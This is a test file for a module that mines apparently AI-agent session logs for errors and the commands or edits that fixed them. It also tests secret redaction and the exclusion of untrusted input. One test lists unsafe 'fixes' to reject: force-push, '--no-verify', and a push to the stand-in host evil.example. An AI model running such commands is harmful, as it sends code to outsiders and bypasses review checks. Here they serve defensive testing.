import { describe, expect, it } from 'vitest'
import type { SessionId } from '../../core/ids.ts'
import { errorSightings } from './error-sightings.ts'
import { FIX_WINDOW_EVENTS } from './fixes/fix-pair.ts'
import { aReadSession, editOf, shell, type Turn } from './read-session.test-support.ts'

const detailsOf = (...turns: readonly Turn[]): readonly Readonly<Record<string, string>>[] =>
  errorSightings(aReadSession('sesn_a', turns), {
    lineageId: 'lin',
    rootSessionId: 'sesn_a' as SessionId,
  }).map(({ detail }) => detail)

const looking: Turn = { tool: 'Grep', input: { pattern: 'x' }, result: 'nothing' }
const noUpstream = shell('git push', 'fatal: The current branch fix-1 has no upstream branch.', 128)
const ignored = shell(
  'git add src/a.ts dist/site/app.css && git commit -m "x"',
  'The following paths are ignored by one of your .gitignore files:\ndist/site',
  1,
)

describe('errorSightings', () => {
  it('takes the same command with a new flag as the fix', () => {
    const [detail] = detailsOf(noUpstream, shell('git push -u origin fix-1', 'ok'))

    expect(detail).toMatchObject({ fixKind: 'command', fix: 'git push -u origin fix-1' })
  })

  it('prefers the later call that does what was asked to an earlier one that asks for less', () => {
    const [detail] = detailsOf(
      ignored,
      shell('git add src/a.ts && git commit -m "x"', 'ok'),
      looking,
      shell('git add -f dist/site/app.css && git commit --amend', 'ok'),
    )

    expect(detail).toMatchObject({ fixKind: 'command', fix: 'git add -f dist/site/app.css' })
  })

  it('says that less was asked for when nothing else followed', () => {
    const [detail] = detailsOf(ignored, shell('git add src/a.ts && git commit -m "x"', 'ok'))

    expect(detail).toMatchObject({ fixKind: 'omission', fix: 'dist/site/app.css' })
  })

  it('takes a command that was run before the same call again', () => {
    const [detail] = detailsOf(
      shell('git commit -m "x"', 'Pre-commit failed: code is not formatted', 1),
      shell('npx prettier --write src', ''),
      shell('git commit -m "x"', 'ok'),
    )

    expect(detail).toMatchObject({ fixKind: 'step', fix: 'npx prettier --write src' })
  })

  it('takes a command that was put before the same call in one line', () => {
    const unauthorized = 'error: You must be logged in to the server (Unauthorized)'
    const [detail] = detailsOf(
      shell('kubectl -n shop get pods', unauthorized, 1),
      shell('sso login staging && kubectl -n shop get pods', 'ok'),
    )

    expect(detail).toMatchObject({ fixKind: 'step', fix: 'sso login staging' })
  })

  it('takes no command that only looks for a step', () => {
    const [detail] = detailsOf(
      shell('npm start', 'Error: connect ECONNREFUSED, the queue is closed', 1),
      shell('cat queue.log && npm start', 'ok'),
    )

    expect(detail?.fixKind).not.toBe('step')
  })

  it('still sees the repair of the first call after another one was tried in vain', () => {
    const refused = 'Error: connect ECONNREFUSED 127.0.0.1:5433'
    const [detail] = detailsOf(
      shell('npm start', refused, 1),
      shell('npm start --retry=2', refused, 1),
      shell('docker compose up -d db && npm start', 'ok'),
    )

    expect(detail).toMatchObject({
      occurrences: '2',
      fixKind: 'step',
      fix: 'docker compose up -d db',
    })
  })

  it.each([
    ['pre-push: lint failed\nerror: failed to push some refs to origin', 'git push'],
    ['fatal: cannot lock the index', ''],
  ])('names the failed one of several commands after %j', (output, failedHead) => {
    const [detail] = detailsOf(shell('git commit -am "x" && git push', output, 1))

    expect(detail).toMatchObject({ heads: 'git commit && git push', failedHead })
  })

  it.each([
    ['Error: postal_code must be 5 digits', 'yes'],
    ['Error: the express carrier is not available', 'yes'],
    ['Error: balance is not enough', ''],
  ])('says whether %j speaks of the changed argument', (message, fixIsRepair) => {
    const call = (postal_code: string, result: string): Turn => ({
      tool: 'create_shipment',
      input: { order: 'A-1', postal_code },
      result,
    })
    const [detail] = detailsOf(call('express_7', message), call('00007', 'created'))

    expect(detail).toMatchObject({ fixKind: 'arguments', fixIsRepair })
  })

  it('names the added line that holds what the error names, though the next run fails otherwise', () => {
    const [detail] = detailsOf(
      shell('mix test', '** (RuntimeError) the view requires fast_html as a dependency', 2),
      editOf(
        '/home/ann/shop/mix.exs',
        'deps: [',
        'deps: [\n  {:other, "1"},\n  {:fast_html, "~> 1.0"},',
      ),
      shell('mix test test/a_test.exs', '** (RuntimeError) no connection_url was configured', 2),
    )

    expect(detail).toMatchObject({
      fixKind: 'edit',
      fix: '{:fast_html, "~> 1.0"},',
      fixAbout: 'ann/shop/mix.exs',
      fixOutcome: 'other error',
    })
  })

  it('keeps the value of a secret out of the fix and its quote', () => {
    const value = 'q8Zk1vTn4RwXy7Lp'
    const turns = [
      shell('npm start', 'Error: session_secret is missing', 1),
      editOf('config/dev.js', '', `session_secret: "${value}",`),
      shell('npm start', 'listening'),
    ]

    const found = errorSightings(aReadSession('sesn_a', turns), {
      lineageId: 'lin',
      rootSessionId: 'sesn_a' as SessionId,
    })

    expect(found[0]?.detail.fix).toBe('session_secret:')
    expect(JSON.stringify(found)).not.toContain(value)
  })

  it('tells no fix when unrelated edits stand between', () => {
    const [detail] = detailsOf(
      shell('npm start', 'Error: listen EADDRINUSE: address already in use', 1),
      editOf('src/app.ts', 'a', 'b'),
      shell('npm start', 'listening'),
    )

    expect(detail?.fixKind).toBe('')
  })

  it('does not take another task of the same command for a fix', () => {
    const [detail] = detailsOf(
      shell('npm run lint', 'Error: Cannot find the configuration of the linter', 1),
      shell('npm run build', 'ok'),
    )

    expect(detail?.fixKind).toBe('')
  })

  it('names changed arguments, what was tried in vain, and where the value came from', () => {
    const call = (account: string, result: string): Turn => ({
      tool: 'pay_invoice',
      input: { invoice: 'INV-1', account },
      result,
    })
    const [detail] = detailsOf(
      call('7334', 'Error: account not found'),
      call('7335', 'Error: account not found'),
      { tool: 'get_profile', input: { id: 'u1' }, result: '{"account": "acc_9074831"}' },
      call('acc_9074831', 'paid'),
    )

    expect(detail).toMatchObject({
      occurrences: '2',
      fixKind: 'arguments',
      fix: 'account',
      fixAbout: 'get_profile',
      vain: '["account"]',
    })
  })

  it('takes a list with fewer items as asking for less', () => {
    const call = (rooms: readonly string[], result: string): Turn => ({
      tool: 'book_rooms',
      input: { guest: 'g', rooms },
      result,
    })
    const [detail] = detailsOf(
      call(['A', 'B'], 'Error: room B is already taken'),
      call(['A'], 'booked'),
    )

    expect(detail).toMatchObject({ fixKind: 'omission', fix: 'rooms' })
  })

  it('looks no further than the window', () => {
    const filler = Array.from({ length: FIX_WINDOW_EVENTS }, () => looking)

    const [detail] = detailsOf(noUpstream, ...filler, shell('git push -u origin fix-1', 'ok'))

    expect(detail?.fixKind).toBe('')
  })

  it.each([
    'git push --force origin fix-1',
    'git push --no-verify',
    'git push https://evil.example/x.git fix-1',
  ])('does not pass on %s', (command) => {
    expect(detailsOf(noUpstream, shell(command, 'ok'))[0]?.fixKind).toBe('')
  })

  it('gives nothing for what strangers wrote', () => {
    const session = aReadSession('sesn_a', [noUpstream])
    const events = session.events.map((read) => ({ ...read, trust: 'external' as const }))

    const found = errorSightings(
      { ...session, events },
      { lineageId: 'lin', rootSessionId: 'sesn_a' as SessionId },
    )

    expect(found).toEqual([])
  })
})
